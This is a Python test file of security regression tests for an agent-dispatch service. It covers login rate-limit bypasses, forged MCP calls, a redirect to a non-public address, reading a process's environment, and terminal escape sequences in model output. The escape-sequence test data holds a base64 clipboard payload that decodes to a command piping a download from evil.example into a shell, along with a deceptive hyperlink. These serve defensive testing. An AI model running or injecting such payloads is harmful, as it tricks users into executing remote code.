"""Attacks on the boundary, tried for real: each test is one way in that was found open, and shows it
closed. Real hypercorn on loopback, a real PostgreSQL, the real MCP transport, real processes."""

from __future__ import annotations

import asyncio
import contextlib
import os
import shutil
import subprocess
import sys
import threading
import unicodedata
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import psycopg
import pytest
from mcp.types import CallToolResult

from executor.harness.refusals import REFUSALS_PER_WINDOW, RefusalBudget
from executor.notify.notes import Note
from executor.notify.notifier import Notifier, NotifyConfig
from executor.run.substrate import SubstrateConfig, build_env
from ingress.auth import PEER_FAILURES_PER_WINDOW, TokenLimiter
from petal_dispatch.config import Settings
from petal_dispatch.demo.scripted_model import Scenario, ScriptedModelServer
from shared.database import Database
from tests import tables
from tests.harness import running_executor
from tests.harness_caller import add_spawn, mcp_client, wait_started
from tests.pg import DB
from tests.push_standin import Subscriber
from tests.served import ingress_server
from tests.wait import until, until_blocking

# fetchone() is typed as possibly None: the queries indexed under `# type: ignore[index]` always return a row
# (RETURNING, an aggregate, a row the test made)

TOKEN = "s3cret-token-s3cret-token"


def _text(result: CallToolResult) -> str:
    return "".join(getattr(c, "text", "") for c in result.content)


async def _slow_login(url: str, guess: str, go: asyncio.Event) -> int:
    """POST /login whose headers arrive first and whose body only once `go` is set."""
    parts = urlsplit(url)
    reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
    body = f"token={guess}".encode()
    writer.write(f"POST /login HTTP/1.1\r\nHost: {parts.netloc}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                 f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode())
    await writer.drain()
    await go.wait()
    writer.write(body)
    await writer.drain()
    status = int((await reader.readline()).split()[1])
    writer.close()
    return status


async def test_wrong_logins_held_open_in_parallel_cannot_outrun_the_limiter(
    db: DB, monkeypatch: pytest.MonkeyPatch
) -> None:
    # 40 guesses whose bodies are held back until all have passed the limiter's first look: without a
    # second look once the body is in, every one of them gets a verdict (401) instead of 429
    looks: list[str] = []  # the limiter's looks, counted (each still answered by the real limiter)
    look = TokenLimiter.retry_after

    def counted(self: TokenLimiter, client: str, peer_address: str | None) -> float:
        looks.append(client)
        return look(self, client, peer_address)
    monkeypatch.setattr(TokenLimiter, "retry_after", counted)
    async with ingress_server(db.ingress_dsn, open_mode=False, auth_mode="token", auth_token=TOKEN) as url:
        go = asyncio.Event()
        guesses = [asyncio.create_task(_slow_login(url, f"wrong{i}", go)) for i in range(40)]
        await until(lambda: len(looks) >= 40, lambda: f"all 40 guesses past the limiter's first look ({len(looks)})",
                    60)
        go.set()
        codes = await asyncio.gather(*guesses)
    assert codes.count(401) <= 10, codes
    assert codes.count(429) >= 30, codes


def test_the_refusal_budget_counts_what_it_leaves_out_and_opens_again_after_its_window() -> None:
    budget = RefusalBudget(limit=3, window_s=60)
    assert [budget.admit("127.0.0.1", now=t) for t in (0, 1, 2, 3, 4)] == [0, 0, 0, None, None]
    assert budget.admit("10.0.0.9", now=5) == 0  # another peer has its own budget
    assert budget.admit("127.0.0.1", now=60.5) == 2  # the first fell out of the window; two were left out


async def test_a_loop_of_forged_harness_calls_cannot_fill_the_journal(db: DB, tmp_path: Path) -> None:
    with ScriptedModelServer(Scenario()) as model:
        async with running_executor(db, model, tmp_path) as h:
            await wait_started(h)
            live = add_spawn(db)
            seq_before = tables.journal_head(db.admin_dsn)
            async with mcp_client(h.mcp_url or "") as forger:
                results = [await forger.call_tool("check_ruled_out", {"scope_id": str(live.session_id),
                                                                      "candidate": "x" * 1000})
                           for _ in range(REFUSALS_PER_WINDOW + 15)]
            # the spawn the harness knows is not locked out by the flood
            async with mcp_client(h.mcp_url or "", live.token) as spawn:
                own = await spawn.call_tool("check_ruled_out", {"scope_id": str(live.session_id), "candidate": "y"})
            events = [e for e in await h.events() if e.seq > seq_before]
    assert all(r.is_error and "refused: no credential" in _text(r) for r in results)
    assert not own.is_error
    assert [e.event_type for e in events] == ["harness.call_refused"] * REFUSALS_PER_WINDOW


class _Redirector(ThreadingHTTPServer):
    """A push service that passes the check (loopback, allowed for tests) and answers every POST with a
    307 to `target`; it also records any request that arrives on the target path (it listens on every
    address, so 0.0.0.0 — not loopback, not public — reaches it)."""

    daemon_threads = True

    def __init__(self) -> None:
        self.hits: list[str] = []
        super().__init__(("0.0.0.0", 0), _RedirectHandler)  # noqa: S104 - the non-public address under test

    @property
    def port(self) -> int:
        return int(self.server_address[1])


class _RedirectHandler(BaseHTTPRequestHandler):
    server: _Redirector

    def do_POST(self) -> None:  # noqa: N802 - the http.server API
        self.rfile.read(int(self.headers.get("content-length") or 0))
        self.server.hits.append(self.path)
        self.send_response(307)
        self.send_header("location", f"http://0.0.0.0:{self.server.port}/internal")
        self.send_header("content-length", "0")
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


async def test_a_push_endpoint_cannot_redirect_the_executor_to_a_non_public_address(db: DB, tmp_path: Path) -> None:
    # the endpoint itself passes (loopback, allowed in tests); its answer sends the POST on to 0.0.0.0,
    # which the check would refuse: only a check on every address actually connected to stops it
    with _Redirector() as service:
        threading.Thread(target=service.serve_forever, daemon=True).start()
        phone = Subscriber(f"http://127.0.0.1:{service.port}/push/x")
        tables.insert(db.admin_dsn, "push_subscriptions", endpoint=phone.endpoint, p256dh=phone.p256dh,
                      auth=phone.json()["keys"]["auth"])
        async with Database(db.executor_dsn, name="test-notifier") as database:
            notifier = Notifier(database.pool, NotifyConfig(data_dir=tmp_path / "var", allow_loopback_push=True))
            await notifier.start()
            outcome = await notifier.deliver([Note("test", "t", "b", "/")])
        service.shutdown()
    assert service.hits == ["/push/x"]  # never /internal
    assert outcome == ("failed", {"push": ["failed"], "ntfy": None})


# a model's text can carry terminal control sequences: clear the screen, retitle the window, write the
# clipboard (OSC 52: a command the user then pastes), a hyperlink that lies about its target, C1 CSI,
# and a bidi override that reorders what the line appears to say
ESCAPES = ("\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07",
           "\x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\", "\x9b31m", "\u202e", "\x08\x7f")


def test_the_terminal_views_show_control_sequences_from_model_text_inert(db: DB) -> None:
    hostile = "look" + "".join(ESCAPES) + "here"
    with psycopg.connect(db.admin_dsn, autocommit=True) as conn:
        task = tables.insert_task(conn, status="running", brief=hostile, started_at=tables.NOW)
        assistant = {"message": {"content": [{"type": "text", "text": hostile},
                                             {"type": "tool_use", "name": hostile, "input": {}}]}}
        records: list[tuple[str, dict[str, Any]]] = [("stream.assistant", assistant),
                                                     ("stream.unparsed", {"line": hostile}),
                                                     ("task.user_message", {"text": hostile})]
        for event_type, payload in records:
            tables.append(conn, event_type, payload, task_id=task)
        tables.insert(conn, "chat_queue", thread_id=uuid.uuid4(), text=hostile)
    env = {**os.environ, "PETAL_EXECUTOR_DSN": db.executor_dsn, "PETAL_INGRESS_DSN": db.ingress_dsn}
    outputs = {cmd: subprocess.run([sys.executable, "-m", "petal_dispatch.cli", cmd], env=env, capture_output=True,
                                   text=True, timeout=60) for cmd in ("journal", "status")}
    for cmd, out in outputs.items():
        assert out.returncode == 0, out.stderr
        assert out.stdout.count("look") >= (3 if cmd == "journal" else 2), out.stdout
        bad = {hex(ord(c)) for c in out.stdout if c != "\n" and (unicodedata.category(c) == "Cc" or c == "\u202e")}
        assert bad == set(), (cmd, bad)


async def test_a_local_process_cannot_dodge_the_token_limiter_by_naming_a_new_client_each_time(db: DB) -> None:
    # loopback is the default trusted proxy, so X-Forwarded-For from any local process names "the client":
    # a fresh name per guess made every guess the first of its client
    async with ingress_server(db.ingress_dsn, open_mode=False, auth_mode="token", auth_token=TOKEN) as url, \
            httpx.AsyncClient(base_url=url) as http:
        bearer = [(await http.get("/api/info", headers={"Authorization": f"Bearer guess{i}",
                                                         "X-Forwarded-For": f"203.0.113.{i}"})).status_code
                  for i in range(PEER_FAILURES_PER_WINDOW + 10)]
        login = [(await http.post("/login", data={"token": f"guess{i}"},
                                  headers={"X-Forwarded-For": f"198.51.100.{i}"})).status_code for i in range(5)]
        right = await http.get("/api/info", headers={"Authorization": f"Bearer {TOKEN}",
                                                     "X-Forwarded-For": "192.0.2.1"})
    assert bearer.count(401) == PEER_FAILURES_PER_WINDOW and bearer[-10:] == [429] * 10, bearer
    assert login == [429] * 5
    assert right.status_code == 429  # the peer waits out its window, right token or not


def test_settings_in_lower_case_are_scrubbed_from_a_childs_environment_too() -> None:
    # the settings are read case-blind, so these configure the services exactly as their upper-case forms
    secrets_env = {"petal_executor_dsn": "postgresql://petal_executor:pw@db/petal", "database_url": "postgresql://a:pw@db/p",
                   "Petal_Auth_Token": "tk", "pgpassword": "pw"}
    with pytest.MonkeyPatch.context() as mp:
        for k, v in secrets_env.items():
            mp.setenv(k, v)
        dsn = Settings().executor_dsn
        assert dsn is not None and dsn.get_secret_value() == secrets_env["petal_executor_dsn"]
    env = build_env(SubstrateConfig(base_env={**secrets_env, "HOME": "/home/u"}), "task-1")
    assert set(env) & set(secrets_env) == set()
    assert env["HOME"] == "/home/u"


def _without_caps(*cmd: str) -> list[str]:
    # the same user as the service and no capabilities: what a worker's Bash is when the service runs as
    # its own user (as root with CAP_SYS_PTRACE every process is readable, which no fix can change)
    return ["setpriv", "--inh-caps=-all", "--bounding-set=-all", *cmd]


@pytest.mark.skipif(shutil.which("setpriv") is None, reason="needs util-linux setpriv to drop capabilities")
def test_a_process_of_the_same_user_cannot_read_a_running_services_environment(db: DB, tmp_path: Path) -> None:
    secret = "PETAL_NTFY_TOKEN=tk-secret-probe"
    env = {**os.environ, "PETAL_INGRESS_DSN": db.ingress_dsn, "PETAL_EXECUTOR_DSN": db.executor_dsn,
           "PETAL_NTFY_TOKEN": "tk-secret-probe"}
    err = tmp_path / "cli.err"
    with err.open("wb") as sink:
        service = subprocess.Popen(_without_caps(sys.executable, "-m", "petal_dispatch.cli", "journal", "--follow"), env=env,
                                   stdout=subprocess.DEVNULL, stderr=sink)
    other = subprocess.Popen(_without_caps("sleep", "60"), env=env)  # not ours: readable, as before
    try:
        def connected() -> bool:
            assert service.poll() is None, err.read_text()
            return b"petal_dispatch.cli" in Path(f"/proc/{service.pid}/cmdline").read_bytes() and \
                _connected(service.pid)
        until_blocking(connected, "the CLI to connect to the database", 30)
        ours = subprocess.run(_without_caps("cat", f"/proc/{service.pid}/environ"), capture_output=True)
        theirs = subprocess.run(_without_caps("cat", f"/proc/{other.pid}/environ"), capture_output=True)
    finally:
        service.terminate()
        other.terminate()
        service.wait(30)
        other.wait(30)
    assert secret.encode() in theirs.stdout  # the reader could read an ordinary process of this user
    assert secret.encode() not in ours.stdout and b"Permission denied" in ours.stderr


def _connected(pid: int) -> bool:
    """The CLI has got as far as its database connection (its settings are read by then)."""
    links = []
    for fd in os.listdir(f"/proc/{pid}/fd"):
        with contextlib.suppress(OSError):
            links.append(os.readlink(f"/proc/{pid}/fd/{fd}"))
    return sum(link.startswith("socket:") for link in links) >= 2


async def test_the_harness_mcp_keeps_no_session_a_stranger_could_pile_up(db: DB, tmp_path: Path) -> None:
    """A stateful server keeps a session per `initialize` (the SDK caps them, then answers 503): any local
    process could open them by the thousand and lock the real spawns out. Served stateless, it keeps none."""
    init = {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
        "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "stranger", "version": "0"}}}
    with ScriptedModelServer(Scenario()) as model:
        async with running_executor(db, model, tmp_path) as h:
            await wait_started(h)
            async with httpx.AsyncClient(headers={"Accept": "application/json, text/event-stream"}) as http:
                answers = [await http.post(h.mcp_url or "", json=init) for _ in range(20)]
    assert all(a.status_code == 200 for a in answers), [a.status_code for a in answers]
    assert not [a for a in answers if a.headers.get("mcp-session-id")]
